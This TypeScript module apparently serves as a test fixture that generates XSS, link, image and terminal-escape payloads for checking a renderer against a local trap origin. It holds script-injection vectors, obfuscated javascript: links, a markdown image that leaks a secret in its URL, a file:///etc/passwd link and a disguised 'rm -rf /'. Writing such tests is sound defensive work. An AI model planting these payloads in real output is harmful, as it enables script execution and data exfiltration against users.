/** Content in an answer, file or output that tries to make a browser do more than show it. */
export interface Payload {
  name: string;
  text: string;
}

/** The function of the page that a payload's script calls. */
export const RAN = "hostileRan";

const RUN = `${RAN}()`;
const ESC = "\u001B";
const BEL = "\u0007";

/**
 * @param trap an origin that nobody should contact (`http://127.0.0.1:PORT`)
 * @param outside an external host that resolves to the trap as well
 */
export function hostilePayloads(trap: string, outside: string): Payload[] {
  const sources: Readonly<Record<string, string>> = {
    ...elements(trap, outside),
    ...links(trap),
    ...pictures(trap, outside),
    ...structure(trap, outside),
    ...terminal(trap),
    ...unseen(trap),
  };
  return Object.entries(sources).map(([name, text]) => ({ name, text }));
}

/** HTML and its relatives. */
function elements(trap: string, outside: string): Record<string, string> {
  return {
    script: `<script>${RUN}</script><script src="${trap}/script.js"></script>`,
    "script in pieces": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    "img onerror": `<img src=x onerror="${RUN}"><img src="${trap}/img.png" onload=${RUN}>`,
    "img srcset": `<img srcset="${trap}/a.png 1x, ${outside}/b.png 2x"><picture><source srcset="${trap}/c.png"></picture>`,
    "svg onload": `<svg onload=${RUN}><image href="${trap}/svg.png"/><use href="${trap}/sprite.svg#x"/></svg>`,
    "svg animate": `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>go</text></a></svg>`,
    "svg foreignObject": `<svg><foreignObject><iframe src="${trap}/fo"></iframe></foreignObject></svg>`,
    mathml: `<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>"></mtext></math>`,
    "mathml href": `<math href="javascript:${RUN}"><maction actiontype="statusline#${trap}">x</maction></math>`,
    iframe: `<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    "object and embed": `<object data="${trap}/o"></object><embed src="${trap}/e"><applet code="${trap}/a">`,
    "video and audio": `<video src="${trap}/v" poster="${trap}/p" autoplay></video><audio src="${trap}/a" autoplay onerror=${RUN}>`,
    base: `<base href="${trap}/"><a href="x">relative</a>`,
    "meta refresh": `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`,
    "link stylesheet": `<link rel=stylesheet href="${trap}/s.css"><style>@import "${trap}/i.css";body{background:url(${trap}/bg)}</style>`,
    prefetch: `<link rel=prefetch href="${trap}/pf"><link rel=preload as=image href="${trap}/pl"><link rel=prerender href="${trap}/pr">`,
    "preconnect and DNS": `<link rel=preconnect href="${trap}"><link rel=dns-prefetch href="${outside}"><link rel=modulepreload href="${trap}/m.js">`,
    speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${trap}/spec"]}]}</script>`,
    "import map": `<script type="importmap">{"imports":{"x":"${trap}/x.js"}}</script><script type=module>import "x"</script>`,
    form: `<form action="${trap}/form"><input name=q autofocus onfocus="${RUN}"><button formaction="${trap}/b">Send</button></form>`,
    "ping and download": `<a href="#" ping="${trap}/ping" onclick="${RUN}">click</a><a href="${trap}/d" download>get</a>`,
    "style attribute": `<div style="position:fixed;inset:0;background:url(${trap}/css)">over the page</div>`,
    "event handlers": `<details open ontoggle="${RUN}"><marquee onstart=${RUN}>m</marquee><body onload=${RUN} onpageshow=${RUN}>`,
    template: `<template shadowrootmode=open><img src="${trap}/shadow"><slot></slot></template><dialog open>d</dialog>`,
    "half a tag": `<img src="${trap}/half" onerror="${RUN}" \n\n text after a tag that never ends`,
    "comments and CDATA": `<!--><img src=x onerror=${RUN}>--><![CDATA[<img src="${trap}/cdata">]]><?php ${RUN} ?>`,
  };
}

/** Links that run something, carry something, or are disguised. */
function links(trap: string): Record<string, string> {
  return {
    "javascript link": `[click](javascript:${RUN}) [image](<javascript:${RUN}>)`,
    "javascript by entities": `[a](&#106;avascript:${RUN}) [b](&#x6A;&#x61;vascript&colon;${RUN}) [c](java&Tab;script:${RUN})`,
    "javascript by case and space": `[a](JaVaScRiPt:${RUN}) [b](\u0001javascript:${RUN}) [c](java\nscript:${RUN}) [d](  javascript:${RUN})`,
    "javascript by escapes": `[a](javascript\\:${RUN}) [b](%6Aavascript:${RUN}) [c](\\javascript:${RUN})`,
    "data link": `[a](data:text/html,<script>${RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD4=) [c](DATA:,x)`,
    "vbscript, blob, file": `[a](vbscript:${RUN}) [b](blob:null/1) [c](file:///etc/passwd) [d](view-source:${trap}) [e](intent://x#Intent;end)`,
    autolinks: `<javascript:${RUN}> <data:text/html,x> <${trap}/auto> ${trap}/bare www.evil.example mail@evil.example`,
    "link with a title": `[a](${trap}/t "<img src=x onerror=${RUN}>") [b](${trap}/t '" onmouseover="${RUN}')`,
    "reference links": `[a][js] [b][data] ![c][img]\n\n[js]: javascript:${RUN}\n[data]: data:text/html,<script>${RUN}</script>\n[img]: ${trap}/ref.png "t"`,
    "relative links": `[a](/settings) [b](//127.0.0.1:1/x) [c](\\\\127.0.0.1\\x) [d](?x#y) [e](#e-1)`,
    "link around a picture": `[![${trap}](${trap}/in.png)](javascript:${RUN})`,
    "name of another host": `[https://good.example](${trap}/other) [x](http://good.example@127.0.0.1:1/)`,
  };
}

/** Images, which would tell their server what was in the prompt. */
function pictures(trap: string, outside: string): Record<string, string> {
  return {
    "markdown picture": `![secret](${trap}/leak?data=THE_SECRET)`,
    "picture elsewhere": `![](${outside}/leak.png) ![x](<${outside}/leak 2.png> "title")`,
    "picture by protocol": `![a](//127.0.0.1:1/p.png) ![b](data:image/svg+xml,<svg onload=${RUN}>) ![c](javascript:${RUN}) ![d](blob:x)`,
    "picture with markup in its name": `![<img src=x onerror=${RUN}>](${trap}/alt.png) ![" onerror="${RUN}](${trap}/alt2.png)`,
    "own origin": `![a](/trpc/session.list) ![b](/sign-in?code=x) [c](/trpc/task.submit)`,
    "css in markdown": `# Title {style="background:url(${trap}/h)"}\n\n{: style="background:url(${trap}/k)" }\n\n*[x]: <img src=${trap}/abbr>`,
  };
}

/** Nested markup, and lots of it. */
function structure(trap: string, outside: string): Record<string, string> {
  return {
    "HTML in code": `\`<img src=x onerror=${RUN}>\`\n\n\`\`\`html\n<script>${RUN}</script><img src="${trap}/code">\n\`\`\``,
    "HTML in an info string": `\`\`\`<img/src=x/onerror=${RUN}>\ncode\n\`\`\`\n\n~~~js" onload="${RUN}\ncode\n~~~`,
    mermaid: `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${RUN}"; click B href "${trap}/m"\n\`\`\`\n\n\`\`\`math\n\\href{javascript:${RUN}}{x}\n\`\`\``,
    "a table of it": `| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n|:-:|--|\n| ![p](${trap}/cell.png) | <svg onload=${RUN}> |`,
    "a list of it": `- [ ] <img src=x onerror=${RUN}>\n- [x] ![p](${trap}/li.png)\n  > <iframe src="${trap}/q">\n\n1. <b onclick=${RUN}>b</b>`,
    "a heading of it": `# <img src=x onerror=${RUN}>\n\n<h1 onclick=${RUN}>h</h1>\n\nSetext ![](${trap}/setext)\n===`,
    footnotes: `Text[^1] and :smile: and $\\href{${trap}}{x}$ and {{constructor.constructor("${RUN}")()}}\n\n[^1]: <img src="${outside}/fn">`,
    "template literals": `\${${RUN}} <%= ${RUN} %> {{${RUN}}} #{${RUN}} {%raw%}<img src=x onerror=${RUN}>{%endraw%} \`\${${RUN}}\``,
    "ends of what is around it": `</p></div></article></main></body></html>"></textarea></title></script><img src=x onerror=${RUN}>]]>`,
    "nested deeply": `${"> ".repeat(800)}<img src=x onerror=${RUN}>\n\n${"[".repeat(2_000)}${"](".repeat(500)}\n\n${"*a _b ".repeat(800)}`,
    "names of prototypes": `[__proto__]: javascript:${RUN}\n[constructor]: ${trap}/c\n\n[x][__proto__] [y][constructor] [z][toString]\n\n\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\ny\n\`\`\``,
  };
}

/** For terminals and whatever shows their output. */
function terminal(trap: string): Record<string, string> {
  return {
    "terminal link": `${ESC}]8;;${trap}/osc8${ESC}\\click me${ESC}]8;;${ESC}\\ ${ESC}]8;;javascript:${RUN}${BEL}and me${ESC}]8;;${BEL}`,
    "terminal title": `${ESC}]0;<img src=x onerror=${RUN}>${BEL}after the title ${ESC}]1337;File=inline=1:AAAA${BEL}`,
    "terminal colours": `${ESC}[38;2;0;0;0;background:url(${trap}/sgr)m x ${ESC}[31m<img src=x onerror=${RUN}>${ESC}[0m`,
    "terminal hides": `shown ${ESC}[8mhidden words${ESC}[28m ${ESC}[2K${ESC}[1A${ESC}[2Jgone? ${ESC}[30;40mblack on black${ESC}[0m`,
    "terminal device control": `${ESC}P+q544e${ESC}\\ ${ESC}_Gf=100;AAAA${ESC}\\ ${ESC}[6n ${ESC}c \u009B31m after <b onclick=${RUN}>b</b>`,
  };
}

/** Invisible characters. */
function unseen(trap: string): Record<string, string> {
  return {
    "turned around": `\u202Egpj.exe\u202C \`rm \u202E/ fr-\u202C\` [\u202Emoc.elpmaxe\u202C](${trap}/rlo) \u2066<img src=x onerror=${RUN}>\u2069`,
    "without a width": `<\u200Bscript>${RUN}</script> <img\u00A0src=x\u00A0onerror=${RUN}> java\u00ADscript:${RUN} \uFEFF\u2028<svg onload=${RUN}>`,
    "other brackets": `\uFF1Cimg src=x onerror=${RUN}\uFF1E &lt;img src=x onerror=${RUN}&gt; &amp;lt;script&amp;gt; &#60;svg onload=${RUN}&#62; \\u003cimg src=x onerror=${RUN}\\u003e`,
  };
}
